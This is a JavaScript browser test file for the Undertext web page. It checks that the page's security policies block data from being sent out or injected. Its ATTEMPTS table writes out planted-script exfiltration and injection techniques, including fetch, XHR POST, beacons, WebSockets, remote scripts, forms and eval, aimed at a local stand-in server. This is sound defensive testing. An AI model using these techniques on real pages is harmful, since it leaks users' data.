/** Wherever the page stands it works, and nothing gets out of it: each test here fails where a policy is left out. */

import assert from 'node:assert/strict';
import { readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { pathToFileURL } from 'node:url';
import {
  SITE,
  WAY,
  dropFiles,
  openCapture,
  openPage,
  save,
  serveSite,
  testsOfTheSite,
  text,
  waitForDocument,
  withFolder,
} from './harness.mjs';

const testPage = testsOfTheSite();

/** A server of somebody else, which writes down what reaches it. */
async function withElsewhere(run) {
  const elsewhere = await serveSite(tmpdir(), { headers: { 'access-control-allow-origin': '*' } });
  try {
    await run(elsewhere);
  } finally {
    await elsewhere.close();
  }
}

/** What a planted script would do to get something out of the page, or something into it. Each gives whether it could. */
const ATTEMPTS = {
  'a fetch': (url) => fetch(url).then(() => true, () => false),
  'a fetch to its own host': () => fetch(location.href).then(() => true, () => false),
  'an old request': (url) => new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve(true);
    request.onerror = () => resolve(false);
    request.open('POST', url);
    request.send('words');
  }),
  // Whether a beacon went out it does not say itself; the server does.
  'a beacon': (url) => { navigator.sendBeacon(url, 'words'); return false; },
  'a socket': (url) => new Promise((resolve) => {
    try {
      const socket = new WebSocket(url.replace('http', 'ws'));
      socket.onopen = () => resolve(true);
      socket.onerror = () => resolve(false);
    } catch {
      resolve(false);
    }
  }),
  'a remote image': (url) => new Promise((resolve) => {
    const image = new Image();
    image.onload = () => resolve(true);
    image.onerror = () => resolve(false);
    image.src = url;
  }),
  'a remote style sheet': (url) => new Promise((resolve) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.onload = () => resolve(true);
    link.onerror = () => resolve(false);
    link.href = url;
    document.head.append(link);
  }),
  'a frame': async (url) => {
    const frame = document.createElement('iframe');
    frame.src = url;
    document.body.append(frame);
    await new Promise((resolve) => { setTimeout(resolve, 300); });
    frame.remove();
    return false;
  },
  'a form': async (url) => {
    const form = document.createElement('form');
    form.action = url;
    document.body.append(form);
    try {
      form.submit();
    } catch {
      // Firefox says at once that it does not.
    }
    await new Promise((resolve) => { setTimeout(resolve, 300); });
    return false;
  },
  'a remote script': (url) => new Promise((resolve) => {
    try {
      const script = document.createElement('script');
      script.onload = () => resolve(true);
      script.onerror = () => resolve(false);
      script.src = url;
      document.head.append(script);
    } catch {
      resolve(false);
    }
  }),
  'an inline script': () => {
    try {
      const script = document.createElement('script');
      script.append('window.planted = true');
      document.head.append(script);
    } catch {
      // It was not even made.
    }
    return window.planted === true;
  },
  'a handler': () => {
    const button = document.createElement('button');
    try {
      button.setAttribute('onclick', 'window.handled = true');
    } catch {
      return false;
    }
    button.click();
    return window.handled === true;
  },
  'markup': () => {
    try {
      document.createElement('div').innerHTML = '<b>bold</b>';
      return true;
    } catch {
      return false;
    }
  },
  // Later, for the browser lets through what a test runs itself.
  'text that is run': () => new Promise((resolve) => {
    setTimeout(() => {
      try {
        resolve(Function('return true')());
      } catch {
        resolve(false);
      }
    });
  }),
  'a style of its own': () => {
    const element = document.createElement('p');
    element.setAttribute('style', 'color: rgb(1, 2, 3)');
    document.body.append(element);
    const { color } = getComputedStyle(element);
    element.remove();
    return color === 'rgb(1, 2, 3)';
  },
  'a style sheet of its own': () => {
    const style = document.createElement('style');
    style.append('p { color: rgb(1, 2, 3) }');
    document.head.append(style);
    const taken = style.sheet?.cssRules.length > 0;
    style.remove();
    return taken;
  },
  'a worker of its own': (url) => new Promise((resolve) => {
    try {
      const worker = new Worker(url);
      // Firefox makes one, which then fails.
      worker.onerror = () => resolve(false);
      worker.onmessage = () => resolve(true);
      setTimeout(() => resolve(true), 2000);
    } catch {
      resolve(false);
    }
  }),
  'another policy': () => {
    try {
      trustedTypes.createPolicy('undertext', { createScriptURL: (address) => address });
      return true;
    } catch {
      return false;
    }
  },
};

/** What rests on Trusted Types alone, which Firefox ESR does not have yet. */
const NEEDS_TRUSTED_TYPES = ['markup', 'another policy'];

/** What the browser says when a policy holds. */
const HELD = /Content.Security.Policy|Trusted|trusted|ERR_BLOCKED_BY_CSP|csp|not allowed|Refused|WebSocket/;

for (const [what, attempt] of Object.entries(ATTEMPTS)) {
  testPage(`nothing comes of ${what}`, (page, site, problems) => withElsewhere(async (elsewhere) => {
    await openCapture(page, 'nested.txt');
    const url = `${elsewhere.url}planted`;
    assert.equal(await page.evaluate(attempt, url), false);
    await sleep(100);
    assert.deepEqual(elsewhere.requests, []);
    const asked = problems.filter((problem) => problem.startsWith('status'));
    assert.deepEqual(asked, []);
    // That it was tried and did not go through is what was to be seen.
    for (const problem of problems.splice(0)) {
      if (!problem.includes(url) && !HELD.test(problem)) problems.push(problem);
    }
  }), {
    notInFirefox: (NEEDS_TRUSTED_TYPES.includes(what) && 'Firefox ESR has no Trusted Types yet')
      || (WAY === 'file' && what === 'a fetch to its own host' && 'a page on a disk may read its own file there'),
  });
}

testPage('the worker can ask for nothing either', (page, site, problems) => withElsewhere(async (elsewhere) => {
  await openCapture(page, 'nested.txt');
  const [worker] = page.workers();
  const url = `${elsewhere.url}planted`;
  const attempt = (address) => fetch(address).then(() => true, () => false);
  assert.equal(await worker.evaluate(attempt, url), false);
  assert.equal(await worker.evaluate(attempt, site.url), false);
  assert.deepEqual(elsewhere.requests, []);
  problems.length = 0;
}), { notInFirefox: 'Puppeteer cannot run anything in its workers' });

if (WAY !== 'file') {
  /** Serves the site in a way of its own, and reads a capture there. */
  const readUnder = (options, run = () => {}) => async (page) => {
    const site = await serveSite(SITE, options);
    try {
      const { page: other, problems } = await openPage(page.browser(), site.url);
      await other.waitForSelector('#pick');
      await openCapture(other, 'nested.txt');
      await run(other, site);
      assert.deepEqual(problems, []);
      await other.close();
    } finally {
      await site.close();
    }
  };

  for (const type of ['application/octet-stream', 'text/html', 'text/plain']) {
    testPage(`a host that calls the program ${type}`, readUnder({ types: { '.wasm': type } }));
  }

  testPage('a host that lets nothing but itself be asked', readUnder({
    headers: { 'content-security-policy': "default-src 'self' 'unsafe-inline' 'wasm-unsafe-eval' blob: data:" },
  }));

  testPage('a page, its program, and what the host says of it: no more is asked for', readUnder({}, async (page, site) => {
    // The manifest the browser asks for, where it would install the page.
    const asked = site.requests.filter((path) => !path.endsWith('.webmanifest'));
    assert.equal(new Set(asked).size, asked.length, 'each once');
    assert.equal(asked.length, 3, asked.join(' '));
  }));
}

testPage('a page is saved as one file, which opens from a disk with the page in it', (page) => withFolder(async (folder) => {
  await page.evaluate(() => localStorage.setItem('undertext.settings', '{"theme":"dark","size":3}'));
  await page.reload();
  await page.waitForSelector('#pick');
  await openCapture(page, 'nested.txt');
  await save(page, folder, '#save-whole');
  const path = join(folder, 'nested.undertext.html');
  // What the reader has set stays with the reader.
  const head = '<!doctype html>\n<html lang="en" data-theme="auto"><head>';
  assert.equal((await readFile(path, 'utf8')).slice(0, head.length), head);

  const { page: saved, problems } = await openPage(page.browser(), pathToFileURL(path).href);
  await waitForDocument(saved, 'nested.txt');
  // The saved page carries the text as it was decoded.
  await page.$eval('.encoding', (choice) => choice.remove());
  assert.equal(await text(saved, '#main'), await text(page, '#main'));
  assert.equal(await saved.title(), await page.title());
  // It can be saved again, and is as closed as the page that it came from.
  assert.ok(await saved.$('#save-whole'));
  assert.deepEqual(problems, []);
  const attempt = () => fetch('http://127.0.0.1:1/').then(() => true, () => false);
  assert.equal(await saved.evaluate(attempt), false);
  assert.ok(problems.every((problem) => HELD.test(problem)), problems.join('\n'));
  await saved.close();

  // Dropped on Undertext it is the capture that it carries.
  await dropFiles(page, [{ name: 'nested.undertext.html', bytes: await readFile(path) }]);
  await waitForDocument(page, 'nested.txt');
  assert.match(await text(page, '.bar .name'), /13 comments/);
}));

testPage('a saved page that was cut short says so, and Undertext in it works', (page) => withFolder(async (folder) => {
  await openCapture(page, 'nested.txt');
  await save(page, folder, '#save-whole');
  const path = join(folder, 'nested.undertext.html');
  const whole = await readFile(path, 'utf8');
  await writeFile(path, whole.replace(/(<script id="capture"[^>]*>[^<]{100})[^<]*/, '$1'));
  const { page: saved } = await openPage(page.browser(), pathToFileURL(path).href);
  await saved.waitForSelector('.failure');
  assert.equal(await text(saved, '.failure h2'), 'This file is damaged');
  await openCapture(saved, 'nested.txt');
  await saved.close();
}));
